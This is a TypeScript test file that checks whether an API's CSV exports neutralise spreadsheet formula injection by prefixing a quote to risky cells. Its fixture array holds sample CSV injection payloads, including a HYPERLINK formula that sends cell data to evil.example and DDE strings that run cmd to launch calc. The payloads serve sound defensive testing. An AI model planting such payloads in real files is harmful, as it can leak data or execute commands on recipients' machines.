/**
 * CSV exports and formula injection (OWASP "CSV Injection"), on every database: a cell a spreadsheet would run as a
 * formula (`=`, `+`, `-`, `@`, tab, carriage return first) is written with a `'` in front, in `csv` and `csv_utf8`,
 * header cells included; plain numbers (`-5`, `-1.50`, `-0.5`) stay numbers whatever the field; other formats keep the
 * values as they are; EXPORT_CSV_ESCAPE_FORMULAS=false writes every cell unchanged.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { clientLabel, testClients } from '../helpers/test-db.js';
import { json, startTestApp, type TestApp } from '../helpers/test-app.js';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '-',
  '=',
];

const QUERY = 'fields=title,body,rating,price,score,metadata&filter[slug][_starts_with]=formula-&sort=slug&limit=-1';

async function addRows(t: TestApp): Promise<void> {
  const rows = HOSTILE.map((title, i) => ({
    title,
    slug: `formula-${String(i).padStart(2, '0')}`,
    body: i === 0 ? '-5' : '=2*3',
    rating: -5,
    price: '-1.50',
    score: -0.5,
    metadata: i === 0 ? '=cmd' : { a: 1 },
  }));
  const res = await t.request({ method: 'POST', url: '/items/articles', payload: rows });
  assert.equal(res.statusCode, 200, res.body);
}

for (const client of testClients()) {
  describe(`CSV export formulas (${clientLabel(client)})`, () => {
    let t: TestApp;
    let raw: TestApp;
    before(async () => {
      t = await startTestApp(client);
      raw = await startTestApp(client, { env: { EXPORT_CSV_ESCAPE_FORMULAS: 'false' } });
      await addRows(t);
      await addRows(raw);
    });
    after(async () => {
      await t?.close();
      await raw?.close();
    });

    const exportCsv = async (app: TestApp, format: string, query = QUERY) => {
      const res = await app.request({ method: 'GET', url: `/items/articles?${query}&export=${format}` });
      assert.equal(res.statusCode, 200, res.body);
      return parseCsv(res.body, { bom: true, relax_quotes: true }) as string[][];
    };

    it('prefixes a quote to formula cells, leaves plain numbers and other text alone (csv and csv_utf8)', async () => {
      for (const format of ['csv', 'csv_utf8']) {
        const [header, ...rows] = await exportCsv(t, format);
        assert.deepEqual(header, ['title', 'body', 'rating', 'price', 'score', 'metadata']);
        assert.deepEqual(
          rows.map((r) => r[0]),
          HOSTILE.map((title) => `'${title}`),
          format,
        );
        // A text field holding a plain number, an integer, a decimal (read as text) and a float: numbers, unchanged.
        assert.deepEqual(rows[0]!.slice(1, 5), ['-5', '-5', '-1.50', '-0.5'], format);
        assert.equal(rows[1]![1], "'=2*3", format);
        // A JSON field holding a string that is a formula (written as its text); JSON objects start with a brace.
        assert.equal(rows[0]![5], "'=cmd", format);
        assert.equal(rows[1]![5], '{"a":1}', format);
      }
    });

    it('header cells too (an alias may start with = or @)', async () => {
      const [header] = await exportCsv(t, 'csv', `fields=id,@x&alias[@x]=title&filter[slug][_eq]=formula-00`);
      assert.deepEqual(header, ['id', "'@x"]);
    });

    it('JSON, NDJSON, XML and YAML exports keep the values as they are', async () => {
      const res = await t.request({ method: 'GET', url: `/items/articles?${QUERY}&export=json` });
      const read = json(await t.request({ method: 'GET', url: `/items/articles?${QUERY}` })).data;
      assert.deepEqual(JSON.parse(res.body), read);
      assert.equal(read[0].title, HOSTILE[0]);
      const xml = await t.request({ method: 'GET', url: `/items/articles?${QUERY}&export=xml` });
      assert.ok(xml.body.includes('<title>=HYPERLINK('), xml.body.slice(0, 300));
    });

    it('EXPORT_CSV_ESCAPE_FORMULAS=false writes every cell unchanged', async () => {
      const [, ...rows] = await exportCsv(raw, 'csv');
      assert.deepEqual(
        rows.map((r) => r[0]),
        HOSTILE,
      );
      assert.equal(rows[1]![1], '=2*3');
    });
  });
}
